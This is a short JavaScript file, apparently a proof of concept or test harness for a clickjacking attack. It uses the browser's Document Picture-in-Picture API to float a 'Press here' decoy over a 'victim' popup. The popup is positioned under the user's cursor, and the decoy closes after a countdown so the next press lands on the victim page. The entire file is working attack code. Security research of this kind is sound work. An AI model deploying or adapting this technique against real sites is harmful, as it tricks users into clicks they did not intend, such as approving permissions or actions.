// A picture-in-picture document stays on top and need not have the focus. The
// victim is opened beneath it and has the focus until its second is over; then
// the cover closes, and the next press falls on the victim.
"use strict";

const WAIT = 3000; // milliseconds
const WIDTH = 800, HEIGHT = 840; // of the victim's window

document.querySelector("[data-decoy]").addEventListener("click", async (event) => {
  if (!window.documentPictureInPicture) {
    event.target.textContent = "This browser has no such window";
    report("none", 0, 0);
    return;
  }
  const over = await documentPictureInPicture.requestWindow({ width: 700, height: 1000 });
  const cover = over.document.createElement("button");
  cover.style.cssText = "position:fixed;inset:0;width:100%;height:100%;font:700 24px system-ui";
  cover.textContent = "Press here";
  over.document.body.append(cover);
  cover.addEventListener("click", (press) => {
    const { victim, fromMiddle, fromTop } = document.body.dataset;
    const left = Math.round(press.screenX - WIDTH / 2 - Number(fromMiddle)), top = Math.round(press.screenY - Number(fromTop) - 35);
    over.open(victim, "", `noopener,popup,width=${WIDTH},height=${HEIGHT},left=${left},top=${top}`);
    cover.textContent = "Wait …";
    const ends = Date.now() + WAIT;
    const count = setInterval(() => {
      const left = Math.ceil((ends - Date.now()) / 1000);
      cover.textContent = left > 1 ? `Press here again in ${left}` : "Press here again now";
      if (left > 0) return;
      clearInterval(count);
      over.close();
    }, 20);
  }, { once: true });
  setTimeout(() => report("over", 0, 0), 500);
});
